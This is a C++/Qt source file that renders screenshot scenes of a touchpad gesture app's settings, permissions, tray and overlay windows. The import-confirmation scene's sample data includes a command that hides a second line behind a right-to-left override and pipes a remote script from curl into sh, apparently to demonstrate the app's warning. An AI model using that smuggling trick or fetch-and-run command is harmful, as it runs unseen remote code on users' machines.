#include "tools/screenshots/SceneStage.h"

#include <QAbstractButton>
#include <QAbstractSpinBox>
#include <QApplication>
#include <QComboBox>
#include <QFontMetrics>
#include <QLabel>
#include <QLineEdit>
#include <QMenu>
#include <QMessageBox>
#include <QPainter>
#include <QPushButton>
#include <QScrollArea>
#include <QSpinBox>
#include <QStyle>
#include <QStyleOptionComboBox>
#include <QStyleOptionFrame>
#include <QTabWidget>
#include <fstream>

#include "ActionKit/ActionKind.h"
#include "Tactora/BatteryMonitor.h"
#include "Tactora/HeadlessGestureOverlay.h"
#include "Tactora/config/ConfigurationDocument.h"
#include "Tactora/login/LaunchAtLogin.h"
#include "Tactora/permissions/PermissionsWindow.h"
#include "Tactora/settings/SettingsWindow.h"
#include "Tactora/settings/SurfaceView.h"
#include "Tactora/settings/TuningTab.h"
#include "Tactora/settings/gestures/AddBindingSheet.h"
#include "Tactora/settings/gestures/ApplicationChooser.h"
#include "Tactora/settings/gestures/GesturesTab.h"
#include "Tactora/shell/GestureOverlay.h"
#include "Tactora/shell/StatusItemController.h"
#include "Tactora/updates/NoticePanel.h"
#ifdef TACTORA_SCREENSHOTS_HAVE_UPDATE_CHECK
#include "Tactora/updates/check/UpdateAlert.h"
#endif

namespace tactora::screenshots {

namespace {

constexpr const char* firefox = "org.mozilla.firefox";

enum class Tab { general, gestures, tuning };

// All Apps as Tactora comes, and a profile for Firefox with a modifier badge, a recorded shortcut
// and a typical shell command.
Configuration sampleConfiguration(const Configuration& defaults) {
  Configuration configuration = defaults;
  configuration.profiles.push_back(
      Profile{firefox,
              {{{GestureEvent::swipe(3, Direction::left), ModifierSet::command()},
                Action::keyShortcut(17, 0x120000)},
               {{GestureEvent::tap(3), ModifierSet::option().unioned(ModifierSet::shift())},
                Action::shellCommand("notify-send 'Three fingers' 'Tapped in Firefox'")},
               {{GestureEvent::pinch(Direction::up), {}}, Action(Action::Case::zoomIn)}}});
  return configuration;
}

settings::SettingsWindow* showSettings(SceneStage& stage, Tab tab) {
  settings::SettingsContext context;
  context.configStore = &stage.store();
  context.updater = &stage.platform().updater();
  context.launchAtLoginEnabled = [] { return true; };
  context.setLaunchAtLogin = [](bool) {};
  context.acknowledgementsPath = stage.folder() / "ACKNOWLEDGEMENTS.md";
  std::ofstream(context.acknowledgementsPath) << "# Acknowledgements\n";
  context.openURL = [](const QUrl&) {};
  context.frames = &stage.frames();
  context.platform = &stage.platform();
  auto* window = stage.keep(std::make_unique<settings::SettingsWindow>(context));
  window->tabs()->setCurrentIndex(static_cast<int>(tab));
  window->show();
  if (tab == Tab::tuning) {
    window->tuningTab()->surfaceView()->poll();
  }
  return window;
}

GesturesTab& gesturesTab(settings::SettingsWindow& window) {
  return *qobject_cast<GesturesTab*>(window.gesturesTab());
}

QWidget* showImportConfirmation(SceneStage& stage) {
  GesturesTab& tab = gesturesTab(*showSettings(stage, Tab::gestures));
  // Commands as a shared settings file may bring them: a plain one, one that hides a second
  // line behind a right-to-left override, and one too long to list whole.
  Configuration incoming = *stage.store().current();
  auto& bindings = incoming.profiles[0].bindings;
  bindings.push_back(
      {{GestureEvent::tap(3), {}}, Action::shellCommand("~/bin/backup-photos --all")});
  bindings.push_back({{GestureEvent::tap(3), ModifierSet::shift()},
                      Action::shellCommand("notify-send 'Saved'\u202E\ncurl -s "
                                           "https://example.org/setup.sh | sh")});
  std::string sync = "rsync -a --delete ~/Documents/ /media/backup/Documents/";
  for (const char* folder : {"Pictures", "Music", "Videos", "Projects"}) {
    sync += std::string(" && rsync -a --delete ~/") + folder + "/ /media/backup/" + folder + "/";
  }
  bindings.push_back({{GestureEvent::tap(2), ModifierSet::shift()}, Action::shellCommand(sync)});
  const auto path = stage.folder() / "incoming.json";
  (void)ConfigurationDocument{incoming}.write(path);
  tab.importFrom(QString::fromStdString(path.string()));
  QMessageBox* alert = tab.alert();
  alert->adjustSize();
  return alert;
}

QWidget* showPermissions(SceneStage& stage, bool accessibility, std::int32_t inputMonitoring) {
  stage.platform().permissions().setAccessibilityTrusted(accessibility);
  stage.platform().permissions().setInputMonitoringAccess(inputMonitoring);
  PermissionsWindow::Options options;
  options.requestProgram = QStringLiteral("true");
  options.helpURL = QUrl::fromLocalFile(QStringLiteral("/usr/share/doc/tactora/permissions.md"));
  options.openURL = [](const QUrl&) { return true; };
  options.restart = [] {};
  auto monitor = PermissionMonitor::create(stage.platform());
  stage.keep(monitor);
  auto* window = stage.keep(std::make_unique<PermissionsWindow>(monitor, std::move(options)));
  window->showPermissions();
  return window;
}

QWidget* showTrayMenu(SceneStage& stage) {
  stage.platform().loginItems().setStatus(platform::LoginItemStatus::enabled);
  auto* login = stage.keep(std::make_unique<LaunchAtLogin>(stage.platform()));
  shell::StatusItemController::Options options;
  // The longest status line: a connected mouse charging.
  options.statusSummary = [] {
    return "Magic Mouse connected" + BatteryMonitor::statusSuffix(platform::BatteryLevel{
                                         78, platform::BatteryLevel::State::charging, ""});
  };
  auto* controller =
      stage.keep(std::make_unique<shell::StatusItemController>(std::move(options), *login));
  controller->menu().popup(QPoint(0, 0));
  return &controller->menu();
}

// The tray icon on and off, on a dark and a light panel, drawn large enough to judge.
QWidget* showTrayIcons(SceneStage& stage) {
  constexpr int size = 22;
  constexpr int scale = 4;
  constexpr int cell = (size + 8) * scale;
  QPixmap strip(4 * cell, cell);
  QPainter painter(&strip);
  int x = 0;
  for (const QColor& panel : {QColor(0x24, 0x24, 0x24), QColor(0xf6, 0xf5, 0xf4)}) {
    for (bool enabled : {true, false}) {
      painter.fillRect(x, 0, cell, cell, panel);
      painter.drawPixmap(x + 4 * scale, 4 * scale,
                         shell::StatusItemController::icon(enabled).pixmap(size * scale));
      x += cell;
    }
  }
  painter.end();
  auto* label = stage.keep(std::make_unique<QLabel>());
  label->setPixmap(strip);
  label->show();
  return label;
}

QWidget* showOverlay(SceneStage& stage) {
  sim::SimPlatform& desktop = stage.platform();
  shell::GestureOverlay::Environment environment;
  environment.mainQueue = &desktop.dispatch().main();
  environment.nowSeconds = [&desktop] { return desktop.timeline().now(); };
  auto* overlay = stage.keep(std::make_shared<shell::GestureOverlay>(std::move(environment)));
  overlay->showText(QString::fromStdString(HeadlessGestureOverlay::textFor(
      GestureEvent::swipe(1, Direction::left), Action(Action::Case::navigateBack))));
  return overlay->panel();
}

// A panel as it appears over a light window and over a dark one.
QImage overDesktops(QWidget& panel) {
  QImage scene(panel.width() + 80, 2 * panel.height() + 60, QImage::Format_ARGB32);
  QPainter painter(&scene);
  painter.fillRect(0, 0, scene.width(), scene.height() / 2, QColor(0xf4, 0xf4, 0xf2));
  painter.fillRect(0, scene.height() / 2, scene.width(), scene.height() - scene.height() / 2,
                   QColor(0x2b, 0x2d, 0x30));
  const QPixmap picture = panel.grab();
  painter.drawPixmap(40, 20, picture);
  painter.drawPixmap(40, scene.height() / 2 + 10, picture);
  painter.end();
  return scene;
}

QWidget* showUpdateNotice(SceneStage& stage) {
  auto* panel = stage.keep(std::make_unique<NoticePanel>(QStringLiteral("Tactora updated to 2.1"),
                                                         stage.platform().dispatch().main()));
  panel->resize(panel->sizeHint());
  panel->show();
  return panel;
}

QImage overWallpaper(QWidget& panel) {
  QImage picture(panel.width() + 120, panel.height() + 60, QImage::Format_ARGB32_Premultiplied);
  QPainter painter(&picture);
  QLinearGradient wallpaper(0, 0, picture.width(), picture.height());
  wallpaper.setColorAt(0, QColor(0x5b, 0x8d, 0xc9));
  wallpaper.setColorAt(1, QColor(0xe8, 0xd5, 0xb0));
  painter.fillRect(picture.rect(), wallpaper);
  panel.render(&painter, QPoint(60, 30), QRegion(), QWidget::DrawChildren);
  painter.end();
  return picture;
}

std::vector<SceneStage::Scene> makeScenes() {
  using Scene = SceneStage::Scene;
  std::vector<Scene> scenes = {
      {"settings-general", true, [](SceneStage& s) { return showSettings(s, Tab::general); }, {}},
      {"settings-gestures", true, [](SceneStage& s) { return showSettings(s, Tab::gestures); }, {}},
      {"settings-gestures-app-profile",
       true,
       [](SceneStage& s) {
         auto* window = showSettings(s, Tab::gestures);
         gesturesTab(*window).showProfile(firefox);
         return window;
       },
       {}},
      {"settings-tuning", true, [](SceneStage& s) { return showSettings(s, Tab::tuning); }, {}},
      // The whole of the scrolling form, as one tall picture.
      {"settings-tuning-full",
       true,
       [](SceneStage& s) {
         return showSettings(s, Tab::tuning)->tuningTab()->findChild<QScrollArea*>()->widget();
       },
       {}},
      {"gestures-add-dialog",
       true,
       [](SceneStage& s) -> QWidget* {
         GesturesTab& tab = gesturesTab(*showSettings(s, Tab::gestures));
         tab.addGestureButton()->click();
         AddBindingSheet* sheet = tab.addSheet();
         sheet->shapePicker()->setCurrentIndex(sheet->shapePicker()->findText("Swipe"));
         sheet->fingerStepper()->setValue(2);
         sheet->actionPicker()->setCurrentIndex(static_cast<int>(ActionKind::keyShortcut));
         return sheet;
       },
       {}},
      {"gestures-app-chooser",
       true,
       [](SceneStage& s) -> QWidget* {
         auto* chooser = s.keep(
             std::make_unique<ApplicationChooser>(std::vector<platform::InstalledApplication>{
                 {"org.gnome.Nautilus", "Files", "folder"},
                 {"firefox-esr", "Firefox ESR", "firefox-esr"},
                 {"org.gnome.Terminal", "Terminal", "terminal"}}));
         chooser->show();
         return chooser;
       },
       {}},
      {"gestures-import-confirmation", true, showImportConfirmation, {}},
      {"permissions-missing",
       false,
       [](SceneStage& s) {
         return showPermissions(s, false, platform::Permissions::accessUnknown);
       },
       {}},
      {"permissions-input-monitoring-denied",
       false,
       [](SceneStage& s) { return showPermissions(s, true, platform::Permissions::accessDenied); },
       {}},
      {"permissions-granted",
       false,
       [](SceneStage& s) { return showPermissions(s, true, platform::Permissions::accessGranted); },
       {}},
      {"tray-menu", false, showTrayMenu, {}},
      {"tray-icons", false, showTrayIcons, {}},
      {"gesture-overlay", false, showOverlay, overDesktops},
      {"update-notice", false, showUpdateNotice, overWallpaper},
  };
#ifdef TACTORA_SCREENSHOTS_HAVE_UPDATE_CHECK
  scenes.push_back({"update-available",
                    false,
                    [](SceneStage& s) -> QWidget* {
                      auto* alert =
                          s.keep(std::make_unique<UpdateAlert>([](const QUrl&) { return true; }));
                      alert->showUpdateFound(
                          {"Tactora 2.1", "57", "2.1", "https://example.org/releases/2.1"}, "2.0");
                      return alert->currentBox();
                    },
                    {}});
#endif
  return scenes;
}

QString plain(QString text) {
  return text.remove(QLatin1Char('&'));
}

std::string described(const char* what, const QString& text) {
  return std::string(what) + ": " + text.toStdString();
}

}  // namespace

const std::vector<SceneStage::Scene>& SceneStage::scenes() {
  static const std::vector<Scene> all = makeScenes();
  return all;
}

const SceneStage::Scene* SceneStage::scene(const std::string& name) {
  for (const Scene& scene : scenes()) {
    if (scene.name == name) {
      return &scene;
    }
  }
  return nullptr;
}

QPalette SceneStage::darkPalette() {
  QPalette palette;
  const QColor text(0xe8, 0xe8, 0xe8);
  const QColor button(0x3a, 0x3c, 0x40);
  const QColor disabled(0x70, 0x70, 0x74);
  palette.setColor(QPalette::Window, QColor(0x2b, 0x2d, 0x30));
  palette.setColor(QPalette::WindowText, text);
  palette.setColor(QPalette::Base, QColor(0x1e, 0x1f, 0x22));
  palette.setColor(QPalette::AlternateBase, QColor(0x33, 0x35, 0x38));
  palette.setColor(QPalette::Text, text);
  palette.setColor(QPalette::Button, button);
  palette.setColor(QPalette::ButtonText, text);
  palette.setColor(QPalette::Highlight, QColor(0x3d, 0x8b, 0xe0));
  palette.setColor(QPalette::HighlightedText, Qt::white);
  palette.setColor(QPalette::PlaceholderText, QColor(0xa0, 0xa3, 0xa8));
  palette.setColor(QPalette::Mid, QColor(0x60, 0x63, 0x68));
  palette.setColor(QPalette::Light, QColor(0x50, 0x53, 0x58));
  palette.setColor(QPalette::Dark, QColor(0x18, 0x19, 0x1b));
  palette.setColor(QPalette::ToolTipBase, button);
  palette.setColor(QPalette::ToolTipText, text);
  palette.setColor(QPalette::Disabled, QPalette::ButtonText, disabled);
  palette.setColor(QPalette::Disabled, QPalette::WindowText, disabled);
  return palette;
}

SceneStage::SceneStage() : platform_(sim::SimPlatform::install()) {
  platform_->workspace().setDisplayName(firefox, "Firefox");
  store_ = std::make_unique<ConfigStore>(folder());
  store_->save(sampleConfiguration(*store_->current()));
  // Two fingers resting, one of them in the right-side zone, and a gesture just made.
  std::vector<Touch> touches(2);
  touches[0].position = {0.3f, 0.55f};
  touches[1].position = {0.78f, 0.7f};
  BorrowedFrame frame;
  frame.surfaceSizeMM = settings::SurfaceSnapshot::defaultSurfaceSizeMM;
  frame.touches = touches;
  for (int i = 0; i < 412; ++i) {
    frames_.publish(frame);
  }
  frames_.gestureReceived(GestureEvent::tap(2));
}

SceneStage::~SceneStage() {
  while (!kept_.empty()) {
    kept_.pop_back();
  }
}

std::vector<std::string> SceneStage::cutOffTexts(QWidget& root) {
  std::vector<std::string> cut;
  const auto shown = [&root](QWidget* widget) { return widget->isVisibleTo(&root); };
  for (QLabel* label : root.findChildren<QLabel*>()) {
    if (!shown(label) || label->text().isEmpty()) {
      continue;
    }
    const bool fits = label->wordWrap() ? label->height() >= label->heightForWidth(label->width())
                                        : label->width() >= label->sizeHint().width();
    if (!fits) {
      cut.push_back(described("label", label->text()));
    }
  }
  for (QAbstractButton* button : root.findChildren<QAbstractButton*>()) {
    if (shown(button) && button->width() < button->sizeHint().width()) {
      cut.push_back(described("button", plain(button->text())));
    }
  }
  for (QAbstractSpinBox* field : root.findChildren<QAbstractSpinBox*>()) {
    if (shown(field) && field->width() < field->sizeHint().width()) {
      cut.push_back(described("number field", field->text()));
    }
  }
  // Every entry of a picker, not only the chosen one: choosing another must not cut it off.
  for (QComboBox* picker : root.findChildren<QComboBox*>()) {
    if (!shown(picker)) {
      continue;
    }
    QStyleOptionComboBox option;
    option.initFrom(picker);
    const int room =
        picker->style()
            ->subControlRect(QStyle::CC_ComboBox, &option, QStyle::SC_ComboBoxEditField, picker)
            .width();
    for (int i = 0; i < picker->count(); ++i) {
      if (picker->fontMetrics().horizontalAdvance(picker->itemText(i)) > room) {
        cut.push_back(described("picker entry", picker->itemText(i)));
      }
    }
  }
  // A field shows the whole of what it holds (a typical shell command).
  for (QLineEdit* field : root.findChildren<QLineEdit*>()) {
    if (!shown(field) || field->text().isEmpty() ||
        qobject_cast<QAbstractSpinBox*>(field->parentWidget()) != nullptr) {
      continue;
    }
    QStyleOptionFrame option;
    option.initFrom(field);
    option.lineWidth = field->style()->pixelMetric(QStyle::PM_DefaultFrameWidth, &option, field);
    constexpr int textMargins = 2 * 2;  // QLineEdit's own margin on either side
    const int room =
        field->style()->subElementRect(QStyle::SE_LineEditContents, &option, field).width() -
        textMargins;
    if (field->fontMetrics().horizontalAdvance(field->text()) > room) {
      cut.push_back(described("field", field->text()));
    }
  }
  auto menus = root.findChildren<QMenu*>();
  if (auto* menu = qobject_cast<QMenu*>(&root)) {
    menus.push_back(menu);
  }
  for (QMenu* menu : menus) {
    if (!menu->isVisible()) {
      continue;
    }
    for (QAction* action : menu->actions()) {
      if (!action->isSeparator() && action->isVisible() &&
          menu->actionGeometry(action).width() <=
              QFontMetrics(action->font()).horizontalAdvance(plain(action->text()))) {
        cut.push_back(described("menu item", plain(action->text())));
      }
    }
  }
  return cut;
}

}  // namespace tactora::screenshots
